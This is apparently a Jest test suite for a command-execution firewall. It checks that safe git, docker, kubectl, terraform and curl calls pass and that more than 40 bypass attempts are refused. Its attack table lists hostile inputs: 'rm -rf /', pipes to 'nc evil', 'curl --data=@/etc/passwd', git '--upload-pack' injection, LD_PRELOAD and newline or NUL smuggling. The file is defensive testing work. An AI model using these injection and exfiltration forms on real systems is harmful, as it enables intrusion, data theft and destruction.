import { mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { checkCommand, compilePolicy, parsePolicy, readPolicyFile, type CompiledPolicy, type DenialCode } from '../../src/control-plane/firewall';

const POLICY_FILE = path.join(__dirname, '../../config/firewall-policy.json');

let base: string;
let outside: string;
let policy: CompiledPolicy;
beforeAll(() => {
  base = mkdtempSync(path.join(os.tmpdir(), 'fw-base-'));
  outside = mkdtempSync(path.join(os.tmpdir(), 'fw-outside-'));
  mkdirSync(path.join(base, 'repo'));
  symlinkSync(outside, path.join(base, 'escape'));
  policy = compilePolicy(readPolicyFile(POLICY_FILE), base, { kubectl: true, terraform: false });
});
afterAll(() => {
  rmSync(base, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

const check = (command: string, args: string[], extra: { cwd?: string; env?: Record<string, string> } = {}) => checkCommand(policy, { command, args, ...extra });

describe('allowed commands', () => {
  test.each([
    ['git', ['status', '--short']],
    ['git', ['log', '--oneline', '-n', '20']],
    ['git', ['pull', 'origin', 'main', '--ff-only']],
    ['npm', ['ls', '--depth=0']],
    ['docker', ['ps', '-a']],
    ['kubectl', ['get', 'pods', '-n', 'music']],
    ['kubectl', ['rollout', 'status', 'deployment/dawg', '-n', 'prod', '--timeout=60s']],
    ['terraform', ['plan', '-input=false', '-out=release.tfplan']],
    ['ps', ['aux']],
    ['df', ['-h']],
    ['free', ['-m']],
    ['curl', ['-sSf', '--max-time', '5', 'http://127.0.0.1:4000/health']],
    ['aws', ['sts', 'get-caller-identity']],
    ['node', ['--version']],
  ])('%s %j', async (command, args) => {
    const verdict = await check(command, args);
    expect(verdict).toMatchObject({ ok: true, rule: command, args });
  });

  test('subcommand limits and approval: docker ps runs freely, docker restart needs approval; kubectl always (env flag); terraform apply always', async () => {
    expect(await check('docker', ['ps'])).toMatchObject({ ok: true, limits: { requireApproval: false } });
    expect(await check('docker', ['restart', 'dawg'])).toMatchObject({ ok: true, limits: { requireApproval: true } });
    expect(await check('kubectl', ['get', 'pods'])).toMatchObject({ ok: true, limits: { requireApproval: true } });
    expect(await check('terraform', ['validate'])).toMatchObject({ ok: true, limits: { requireApproval: false } });
    expect(await check('terraform', ['apply', '-auto-approve', 'release.tfplan'])).toMatchObject({ ok: true, subcommand: 'apply', limits: { requireApproval: true, maxExecutionTimeMs: 1_800_000 } });
    const relaxed = compilePolicy(readPolicyFile(POLICY_FILE), base, { kubectl: false, terraform: true });
    expect(await checkCommand(relaxed, { command: 'kubectl', args: ['get', 'pods'] })).toMatchObject({ limits: { requireApproval: false } });
    expect(await checkCommand(relaxed, { command: 'terraform', args: ['validate'] })).toMatchObject({ limits: { requireApproval: true } });
  });

  test('cwd: the default, a subdirectory, and allowed env', async () => {
    const real = (await check('git', ['status'])) as { cwd: string };
    expect(real.cwd).toBe(policy.rules.get('git')!.allowedDirectories[0]);
    expect(await check('git', ['status'], { cwd: path.join(base, 'repo') })).toMatchObject({ ok: true, cwd: expect.stringMatching(/repo$/) });
    expect(await check('terraform', ['plan'], { env: { TF_WORKSPACE: 'staging' } })).toMatchObject({ ok: true, env: { TF_WORKSPACE: 'staging' } });
  });
});

/** At least 40 bypass attempts, each refused for the right reason. */
const attacks: Array<[string, string, string[], DenialCode, { cwd?: (b: string, o: string) => string; env?: Record<string, string> }?]> = [
  // Shell metacharacters (there is no shell, and they are refused anyway).
  ['command chaining with ;', 'git', ['status;', 'rm', '-rf', '/'], 'BAD_ARGUMENT'],
  ['command substitution $()', 'git', ['log', '$(id)'], 'BAD_ARGUMENT'],
  ['backticks', 'git', ['log', '`id`'], 'BAD_ARGUMENT'],
  ['&& in an argument', 'git', ['status', '&&', 'curl', 'evil'], 'BAD_ARGUMENT'],
  ['pipe', 'ps', ['aux', '|', 'nc', 'evil', '9'], 'BAD_ARGUMENT'],
  ['redirection', 'df', ['-h', '>', '/etc/passwd'], 'BAD_ARGUMENT'],
  ['newline injection', 'git', ['status\nrm -rf /'], 'BAD_ARGUMENT'],
  ['command name with a shell', 'git;sh', [], 'BAD_COMMAND_NAME'],
  // Option injection.
  ['git --upload-pack', 'git', ['fetch', '--upload-pack=touch /tmp/pwned'], 'OPTION_DENIED'],
  ['git --upload-pack without spaces', 'git', ['fetch', '--upload-pack=id'], 'OPTION_DENIED'],
  ['git -c core.sshCommand', 'git', ['-c', 'core.sshCommand=id', 'fetch'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['git -c after the subcommand', 'git', ['log', '-c', 'core.pager=id'], 'OPTION_DENIED'],
  ['git --exec', 'git', ['pull', '--exec=id'], 'OPTION_DENIED'],
  ['git --output', 'git', ['diff', '--output=/tmp/x'], 'OPTION_DENIED'],
  ['git -o attached value', 'git', ['log', '-o/tmp/x'], 'OPTION_DENIED'],
  ['abbreviated --upload-pack', 'git', ['fetch', '--upload-p=id'], 'OPTION_DENIED'],
  ['abbreviated --exec', 'git', ['pull', '--exe=id'], 'OPTION_DENIED'],
  ['curl -o file', 'curl', ['-o', '/tmp/x', 'http://example.com/'], 'OPTION_DENIED'],
  ['curl --output', 'curl', ['--output=/tmp/x', 'http://example.com/'], 'OPTION_DENIED'],
  ['curl -K config', 'curl', ['-K', 'evil.conf'], 'OPTION_DENIED'],
  ['curl bundled -sSo', 'curl', ['-sSo', 'x', 'http://example.com/'], 'OPTION_DENIED'],
  ['curl file://', 'curl', ['file:///etc/passwd'], 'ARGUMENT_NOT_ALLOWED'],
  ['curl gopher://', 'curl', ['gopher://127.0.0.1:6379/_FLUSHALL'], 'ARGUMENT_NOT_ALLOWED'],
  ['curl abbreviated --upload-file', 'curl', ['--upload-f', 'x', 'http://example.com/'], 'OPTION_DENIED'],
  ['curl --data', 'curl', ['--data=@/etc/passwd', 'http://example.com/'], 'OPTION_DENIED'],
  // Arbitrary scripts.
  ['npm run', 'npm', ['run', 'build'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['npm exec', 'npm', ['exec', 'cowsay'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['npx-style npm x', 'npm', ['x', 'evil'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['npm test (a script)', 'npm', ['test'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['npm --prefix option', 'npm', ['ls', '--prefix=/'], 'OPTION_DENIED'],
  ['node -e', 'node', ['-e', 'process.exit()'], 'ARGUMENT_NOT_ALLOWED'],
  ['node script', 'node', ['evil.js'], 'ARGUMENT_NOT_ALLOWED'],
  ['pm2 start (runs any script)', 'pm2', ['start', 'evil.js'], 'SUBCOMMAND_NOT_ALLOWED'],
  // Containers and clusters.
  ['docker run --privileged', 'docker', ['run', '--privileged', 'alpine'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['docker exec', 'docker', ['exec', 'dawg', 'sh'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['docker host mount via -v', 'docker', ['start', '-v', '/:/host'], 'OPTION_DENIED'],
  ['docker --pid=host', 'docker', ['start', '--pid=host', 'x'], 'OPTION_DENIED'],
  ['docker -H remote daemon', 'docker', ['ps', '-H', 'tcp://evil:2375'], 'OPTION_DENIED'],
  ['kubectl exec', 'kubectl', ['exec', '-it', 'pod', '--', 'sh'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['kubectl cp', 'kubectl', ['cp', 'pod:/etc/shadow', 'x'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['kubectl proxy', 'kubectl', ['proxy'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['kubectl --kubeconfig', 'kubectl', ['get', 'pods', '--kubeconfig=/tmp/evil'], 'OPTION_DENIED'],
  ['kubectl --token', 'kubectl', ['get', 'pods', '--token=x'], 'OPTION_DENIED'],
  ['terraform -chdir', 'terraform', ['-chdir=/', 'apply'], 'SUBCOMMAND_NOT_ALLOWED'],
  ['terraform -var-file', 'terraform', ['plan', '-var-file=evil.tfvars'], 'OPTION_DENIED'],
  ['terraform --var-file (double dash)', 'terraform', ['plan', '--var-file=evil.tfvars'], 'OPTION_DENIED'],
  ['terraform console', 'terraform', ['console'], 'SUBCOMMAND_NOT_ALLOWED'],
  // Forbidden commands and path tricks.
  ['rm', 'rm', ['-rf', '/'], 'COMMAND_FORBIDDEN'],
  ['sudo', 'sudo', ['git', 'status'], 'COMMAND_FORBIDDEN'],
  ['bash', 'bash', ['-c', 'id'], 'COMMAND_FORBIDDEN'],
  ['env wrapper', 'env', ['git', 'status'], 'COMMAND_FORBIDDEN'],
  ['xargs', 'xargs', ['rm'], 'COMMAND_FORBIDDEN'],
  ['not in the policy', 'python3', ['-c', 'print(1)'], 'COMMAND_FORBIDDEN'],
  ['unknown command', 'make', ['all'], 'COMMAND_NOT_ALLOWED'],
  ['./git', './git', ['status'], 'BAD_COMMAND_NAME'],
  ['/tmp/git', '/tmp/git', ['status'], 'BAD_COMMAND_NAME'],
  ['../bin/git', '../bin/git', ['status'], 'BAD_COMMAND_NAME'],
  ['upper-case GIT', 'GIT', ['status'], 'BAD_COMMAND_NAME'],
  ['fullwidth ｇit', '\uff47it', ['status'], 'BAD_COMMAND_NAME'],
  ['NUL in the command', 'git\0', ['status'], 'BAD_COMMAND_NAME'],
  ['.. in an argument', 'aws', ['s3', 'cp', '../secrets.txt', 's3://bucket/x'], 'BAD_ARGUMENT'],
  ['cwd outside', 'git', ['status'], 'CWD_NOT_ALLOWED', { cwd: (_b, o) => o }],
  ['cwd through a symlink out', 'git', ['status'], 'CWD_NOT_ALLOWED', { cwd: (b) => path.join(b, 'escape') }],
  ['relative cwd', 'git', ['status'], 'CWD_NOT_ALLOWED', { cwd: () => 'repo' }],
  ['cwd with ..', 'git', ['status'], 'CWD_NOT_ALLOWED', { cwd: (b) => path.join(b, 'repo', '..', '..') }],
  // Environment injection.
  ['LD_PRELOAD', 'git', ['status'], 'ENV_NOT_ALLOWED', { env: { LD_PRELOAD: '/tmp/evil.so' } }],
  ['GIT_SSH_COMMAND', 'git', ['fetch'], 'ENV_NOT_ALLOWED', { env: { GIT_SSH_COMMAND: 'id' } }],
  ['NODE_OPTIONS', 'node', ['--version'], 'ENV_NOT_ALLOWED', { env: { NODE_OPTIONS: '--require /tmp/evil.js' } }],
  ['PATH override', 'terraform', ['plan'], 'ENV_NOT_ALLOWED', { env: { PATH: '/tmp' } }],
  ['allowed variable with a bad value', 'terraform', ['plan'], 'ENV_NOT_ALLOWED', { env: { TF_WORKSPACE: 'x\0y' } }],
  // Encoding tricks and sizes.
  ['unicode minus look-alike', 'git', ['fetch', '\u2212\u2212upload-pack=id'], 'BAD_ARGUMENT'],
  ['NUL in an argument', 'git', ['log', '--oneline\0--exec=id'], 'BAD_ARGUMENT'],
  ['over-long argument', 'git', ['pull', 'origin', 'a'.repeat(5_000)], 'BAD_ARGUMENT'],
  ['too many arguments', 'free', Array.from({ length: 100 }, () => '-m'), 'TOO_MANY_ARGS'],
  ['-- then an option', 'git', ['log', '--', '--upload-pack=id'], 'ARGUMENT_NOT_ALLOWED'],
  ['lone --', 'git', ['pull', '--'], 'ARGUMENT_NOT_ALLOWED'],
];

describe('bypass attempts', () => {
  test(`there are at least 40 (${attacks.length})`, () => expect(attacks.length).toBeGreaterThanOrEqual(40));

  // Every row gets its 5th element: jest reads a missing one as a done callback.
  test.each(attacks.map(([name, command, args, code, extra]) => [name, command, args, code, extra ?? {}] as const))('%s is refused', async (_name, command, args, code, extra) => {
    const verdict = await check(command, [...args], { cwd: extra.cwd?.(base, outside), env: extra.env });
    expect(verdict).toMatchObject({ ok: false, code });
    expect((verdict as { reason: string }).reason.length).toBeGreaterThan(10);
  });
});

describe('policy file', () => {
  const minimal = { version: 1, path: ['/usr/bin'], defaults: { allowedDirectories: ['.'] }, rules: {} as Record<string, unknown> };

  test('naming a forbidden command or environment variable does not load', () => {
    expect(() => parsePolicy({ ...minimal, rules: { bash: { description: 'x' } } })).toThrow(/rules\.bash: bash is never allowed/);
    expect(() => parsePolicy({ ...minimal, rules: { git: { description: 'x', allowedEnv: ['LD_PRELOAD'] } } })).toThrow(/rules\.git\.allowedEnv: LD_PRELOAD may never be set/);
  });

  test('a bad pattern, relative PATH entry or missing directory is named', () => {
    expect(() => parsePolicy({ ...minimal, rules: { git: { description: 'x', args: ['(unclosed'] } } })).toThrow(/rules\.git\.args\.0: is not a valid regular expression/);
    expect(() => parsePolicy({ ...minimal, path: ['bin'] })).toThrow(/path\.0: must be an absolute directory/);
    expect(() => compilePolicy(parsePolicy({ ...minimal, rules: { df: { description: 'x', allowedDirectories: ['/nope/nowhere'] } } }), base, { kubectl: true, terraform: true })).toThrow(/rules\.df\.allowedDirectories: \/nope\/nowhere does not exist/);
  });

  test('allowedMetacharacters: only $, only in arguments of the rule or subcommand that lists it, and only where a pattern matches', async () => {
    expect(() => parsePolicy({ ...minimal, rules: { df: { description: 'x', allowedMetacharacters: [';'] } } })).toThrow(/rules\.df\.allowedMetacharacters\.0: only \$ may be allowed/);
    expect(() => parsePolicy({ ...minimal, rules: { df: { description: 'x', subcommands: { a: { allowedMetacharacters: ['`'] } } } } })).toThrow(/rules\.df\.subcommands\.a\.allowedMetacharacters\.0/);
    const p = compilePolicy(
      parsePolicy({ ...minimal, rules: { tool: { description: 'x', subcommands: { run: { args: ['--id=[a-z$]+', '--name=[a-z]+'], allowedMetacharacters: ['$'] }, show: { args: ['--id=[a-z$]+'] } } } } }),
      base,
      { kubectl: true, terraform: true },
    );
    const run = (args: string[]) => checkCommand(p, { command: 'tool', args });
    expect(await run(['run', '--id=a$b'])).toMatchObject({ ok: true, args: ['run', '--id=a$b'] });
    // The other metacharacters stay refused, even next to a $.
    expect(await run(['run', '--id=a$;b'])).toMatchObject({ ok: false, code: 'BAD_ARGUMENT', argIndex: 1, reason: expect.stringContaining('(;)') });
    expect(await run(['run', '--id=$(id)'])).toMatchObject({ ok: false, code: 'ARGUMENT_NOT_ALLOWED' });
    // A pattern must still match: $ in an argument whose pattern has none.
    expect(await run(['run', '--name=a$b'])).toMatchObject({ ok: false, code: 'ARGUMENT_NOT_ALLOWED', argIndex: 1 });
    // A subcommand that does not list it refuses it as before.
    expect(await run(['show', '--id=a$b'])).toMatchObject({ ok: false, code: 'BAD_ARGUMENT', argIndex: 1, reason: 'argument 1: contains a shell metacharacter ($)' });
    // In the shipped policy: pulumi's --target, and nothing else.
    const child = '--target=urn:pulumi:dev::shop::my:Site$aws:s3/bucket:Bucket::b';
    expect(await check('pulumi', ['preview', '--json', '--stack=dev', child])).toMatchObject({ ok: true });
    expect(await check('pulumi', ['up', '--yes', '--skip-preview', child])).toMatchObject({ ok: true, limits: { requireApproval: true } });
    expect(await check('pulumi', ['preview', '--stack=de$v'])).toMatchObject({ ok: false, code: 'ARGUMENT_NOT_ALLOWED' });
    expect(await check('pulumi', ['stack', 'output', '--stack=de$v'])).toMatchObject({ ok: false, code: 'BAD_ARGUMENT' });
    expect(await check('git', ['log', '$HOME'])).toMatchObject({ ok: false, code: 'BAD_ARGUMENT' });
  });

  test('patterns are anchored: a pattern cannot be satisfied by part of an argument', async () => {
    const p = compilePolicy(parsePolicy({ ...minimal, rules: { df: { description: 'x', args: ['-h'] } } }), base, { kubectl: true, terraform: true });
    expect(await checkCommand(p, { command: 'df', args: ['-h'] })).toMatchObject({ ok: true });
    expect(await checkCommand(p, { command: 'df', args: ['-hx'] })).toMatchObject({ ok: false, code: 'ARGUMENT_NOT_ALLOWED' });
    expect(await checkCommand(p, { command: 'df', args: ['x-h'] })).toMatchObject({ ok: false, code: 'ARGUMENT_NOT_ALLOWED' });
  });
});
